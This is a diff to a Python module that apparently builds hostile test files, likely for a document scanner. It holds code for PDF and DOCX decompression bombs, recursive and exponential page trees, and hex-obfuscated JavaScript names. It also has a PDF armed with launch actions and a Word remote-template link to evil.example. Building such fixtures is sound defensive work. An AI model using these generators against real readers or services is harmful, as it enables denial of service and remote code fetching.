@@ -45,11 +45,13 @@ def stream(content: bytes, more: bytes = b"") -> bytes:
     return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)
 
 
-def deflated(megabytes: int) -> bytes:
-    """So many megabytes of blanks, packed."""
-    packing = zlib.compressobj(9)
-    block = b" " * MEGABYTE
-    return b"".join([*(packing.compress(block) for _ in range(megabytes)), packing.flush()])
+def deflated(megabytes: int, start: bytes = b"") -> bytes:
+    """A text and so many megabytes of blanks, packed; the same block over and over, since packing takes time."""
+    first = zlib.compressobj(9)
+    head = first.compress(start) + first.flush(zlib.Z_FULL_FLUSH)
+    again = zlib.compressobj(9, wbits=-15)
+    block = again.compress(b" " * MEGABYTE) + again.flush(zlib.Z_FULL_FLUSH)
+    return head + block * megabytes + b"\x03\0"
 
 
 def armed_pdf() -> bytes:
@@ -70,7 +72,9 @@ def armed_pdf() -> bytes:
     made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))
     made.Root.Metadata = made.make_stream(b"<x:xmpmeta>Amina</x:xmpmeta>", Type=Name.Metadata, Subtype=Name.XML)
     page.AA = Dictionary(O=launch)
-    page.Annots = Array([made.make_indirect(annotation) for annotation in _armed_annotations(attached, script, launch)])
+    annotations = [made.make_indirect(one) for one in _armed_annotations(attached, script, launch)]
+    made.Root.AcroForm.Fields = Array([one for one in annotations if one.Subtype == "/Widget"])
+    page.Annots = Array(annotations)
     return ordinary.saved(made)
 
 
@@ -98,13 +102,12 @@ def _armed_annotations(attached: Dictionary, script: Dictionary, launch: Diction
 
 def hidden_name_pdf() -> bytes:
     """JavaScript whose name is written in hexadecimal, in an object that an update put in place of another."""
-    content = raw_pdf(
+    return raw_pdf(
         b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
         b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
     )
-    return content
 
 
 def page_tree_in_circles() -> bytes:
@@ -117,9 +120,7 @@ def page_tree_in_circles() -> bytes:
 
 def page_tree_that_multiplies() -> bytes:
     """Thirty levels, each of which has the next one ten times: more pages than there are atoms in a person."""
-    levels = [
-        b"<< /Type /Pages /Kids [%s] /Count 10 >>" % (b"%d 0 R " % (number + 1) * 10) for number in range(2, 32)
-    ]
+    levels = [b"<< /Type /Pages /Kids [%s] /Count 10 >>" % (b"%d 0 R " % (number + 1) * 10) for number in range(2, 32)]
     return raw_pdf(
         b"<< /Type /Catalog /Pages 2 0 R >>", *levels, b"<< /Type /Page /Parent 31 0 R /MediaBox [0 0 9 9] >>"
     )
@@ -162,18 +163,29 @@ def many_layers() -> bytes:
     )
 
 
-def object_stream_bomb() -> bytes:
+def object_stream_bomb(megabytes: int = 3_000) -> bytes:
     """The catalogue itself lies in an object stream that unpacks to gigabytes."""
-    packed = deflated(3_000)
+    objects = (
+        b"<< /Type /Catalog /Pages 4 0 R >>",
+        b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 9 9] >>",
+    )
+    table_of_objects = b"1 0 4 %d 5 %d " % (len(objects[0]) + 1, len(objects[0]) + len(objects[1]) + 2)
+    packed = deflated(megabytes, table_of_objects + b"\n".join(objects) + b"\n")
     written = io.BytesIO()
     written.write(b"%PDF-1.7\n")
     place = written.tell()
-    written.write(b"2 0 obj\n" + stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") + b"\nendobj\n")
+    written.write(
+        b"2 0 obj\n"
+        + stream(packed, b"/Type /ObjStm /N 3 /First %d /Filter /FlateDecode" % len(table_of_objects))
+        + b"\nendobj\n"
+    )
     start = written.tell()
     rows = b"".join(
-        struct.pack(">BIH", *row) for row in [(0, 0, 65535), (2, 2, 0), (1, place, 0), (1, start, 0)]
+        struct.pack(">BIH", *row)
+        for row in [(0, 0, 65535), (2, 2, 0), (1, place, 0), (1, start, 0), (2, 2, 1), (2, 2, 2)]
     )
-    table = stream(rows, b"/Type /XRef /Size 4 /W [1 4 2] /Root 1 0 R")
+    table = stream(rows, b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R")
     written.write(b"3 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)
     return written.getvalue()
 
@@ -255,13 +267,15 @@ def zip_file(parts: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes
     return written.getvalue()
 
 
-def docx_bomb(megabytes: int = 3_000) -> bytes:
-    """A Word document one part of which unpacks to gigabytes."""
+def docx_bomb(megabytes: int = 1_000) -> bytes:
+    """A Word document one part of which unpacks to a gigabyte."""
     written = io.BytesIO(ordinary.docx_file())
-    with zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
-        with package.open("word/comments.xml", "w", force_zip64=True) as part:
-            for _ in range(megabytes // 10):
-                part.write(bytes(10 * MEGABYTE))
+    with (
+        zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as package,
+        package.open("word/comments.xml", "w", force_zip64=True) as part,
+    ):
+        for _ in range(megabytes // 10):
+            part.write(bytes(10 * MEGABYTE))
     return written.getvalue()
 
 
@@ -321,7 +335,8 @@ def docx_from_template() -> bytes:
     content = docx_relation("attachedTemplate", "https://evil.example/x.dotm", part="word/_rels/settings.xml.rels")
     parts = unpack(content)
     settings = parts["word/settings.xml"]
-    link = b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdX"/>'
+    space = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    link = b'<w:attachedTemplate xmlns:r="%s" r:id="rIdX"/>' % space
     parts["word/settings.xml"] = settings.replace(b"</w:settings>", link + b"</w:settings>")
     return zip_file(parts)
 
